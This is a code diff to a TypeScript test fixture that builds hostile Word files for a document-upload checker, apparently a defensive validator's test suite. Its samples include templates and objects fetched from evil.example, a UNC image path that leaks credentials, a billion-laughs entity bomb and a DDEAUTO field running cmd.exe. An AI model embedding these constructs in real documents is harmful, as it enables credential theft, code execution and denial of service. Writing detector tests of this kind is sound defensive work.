@@ -6,6 +6,7 @@ import {
   sampleZip,
   type ZipPart,
 } from '../../src/platform/files/testing/samples.ts';
+import { activeWord } from './hostile-active.ts';
 import type { HostileFile } from './hostile-file.ts';
 
 /** Word documents that grow, run something, fetch something, or lie about themselves. */
@@ -29,7 +30,7 @@ const changed = (change: (zip: Buffer) => void, zip = sampleDocx()): Buffer => {
 
 const relation = (type: string, target: string, mode = ' TargetMode="External"'): ZipPart => ({
   name: 'word/_rels/settings.xml.rels',
-  data: `<?xml version="1.0"?><Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`,
+  data: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`,
 });
 const utf16 = ({ name, data }: ZipPart): ZipPart => ({
   name,
@@ -39,7 +40,9 @@ const body = (xml: string): Buffer =>
   sampleZip(docxParts().map((part) => (part.name === 'word/document.xml' ? { ...part, data: xml } : part)));
 const laughs = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ja">${Array.from({ length: 20 }, (_, n) => `<!ENTITY a${n} "${`&a${n || ''};`.repeat(10)}">`).join('')}]><w:document>&a19;</w:document>`;
 const field = (code: string): Buffer =>
-  body(`<w:document><w:instrText xml:space="preserve">${code}</w:instrText></w:document>`);
+  body(
+    `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:instrText xml:space="preserve">${code}</w:instrText></w:document>`,
+  );
 const inside = (text: string): Buffer =>
   Buffer.concat([Buffer.alloc(512, 1), Buffer.from(text, 'utf16le'), Buffer.alloc(64)]);
 const megabytes = (count: number): Buffer => Buffer.alloc(count << 20);
@@ -49,7 +52,9 @@ const of =
   (what: string, make: () => Buffer): HostileFile => ({ what, name, code, make });
 const grows = of('archivo_desmedido');
 const runs = of('archivo_con_macros');
+const fetches = of('archivo_contenido_externo');
 const lies = of('archivo_danado');
+const brings = of('archivo_con_objetos');
 const runsOld = of('archivo_con_macros', 'informe.doc');
 
 export const hostileWord: readonly HostileFile[] = [
@@ -102,25 +107,25 @@ export const hostileWord: readonly HostileFile[] = [
     docx({ name: 'word/embeddings/oleObject2.bin', data: inside('_VBA_PROJECT') }),
   ),
   runs('a docx with a page as a chapter', () => docx({ name: 'word/afchunk.mht', data: 'x' })),
-  runs('a docx that fetches its template', () =>
+  fetches('a docx that fetches its template', () =>
     docx(relation('attachedTemplate', 'https://evil.example/t.dotm')),
   ),
-  runs('the same with the address in other signs', () =>
+  fetches('the same with the address in other signs', () =>
     docx(relation('attachedTemplate', '&#x68;ttps://evil.example/t.dotm')),
   ),
-  runs('the same with its relations in UTF-16', () =>
+  fetches('the same with its relations in UTF-16', () =>
     docx(utf16(relation('attachedTemplate', 'https://evil.example/t.dotm'))),
   ),
-  runs('the same in other quotes', () =>
+  fetches('the same in other quotes', () =>
     docx({
       name: 'word/_rels/settings.xml.rels',
       data: "<Relationship Type='x/attachedTemplate' Target='https://evil.example/t' TargetMode='External'/>",
     }),
   ),
-  runs('a docx with an object elsewhere', () =>
+  fetches('a docx with an object elsewhere', () =>
     docx(relation('oleObject', 'mhtml:https://evil.example/x!x')),
   ),
-  runs('a docx with a picture on a share, which is told the password print', () =>
+  fetches('a docx with a picture on a share, which is told the password print', () =>
     docx(relation('image', '\\\\evil.example\\a\\b.png')),
   ),
   runs('a docx whose entities grow without end', () => body(laughs)),
@@ -130,13 +135,26 @@ export const hostileWord: readonly HostileFile[] = [
   runs('a docx that calls a program in a field', () =>
     field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
   ),
+  ...activeWord,
+  brings('a docx with a page as a chapter, under an honest name', () =>
+    docx(relation('aFChunk', 'afchunk.xml', ''), { name: 'word/afchunk.xml', data: '<p/>' }),
+  ),
+  runs('a docx with a spreadsheet with macros', () =>
+    docx({
+      name: 'word/embeddings/hoja.xlsx',
+      data: sampleZip([{ name: 'xl/vbaProject.bin', data: 'x' }]),
+    }),
+  ),
   of('archivo_cifrado')('a docx with a password', () =>
     sampleDoc([{ name: 'EncryptedPackage', storage: false }], 'EncryptionInfo'),
   ),
   of('archivo_no_coincide')('a ZIP without a document', () => sampleZip([{ name: 'a.txt', data: 'hola' }])),
   of('archivo_no_coincide')('a spreadsheet named .docx', () =>
     sampleZip([
-      { name: '[Content_Types].xml', data: '<Types/>' },
+      {
+        name: '[Content_Types].xml',
+        data: '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
+      },
       { name: 'xl/workbook.xml', data: '<w/>' },
     ]),
   ),
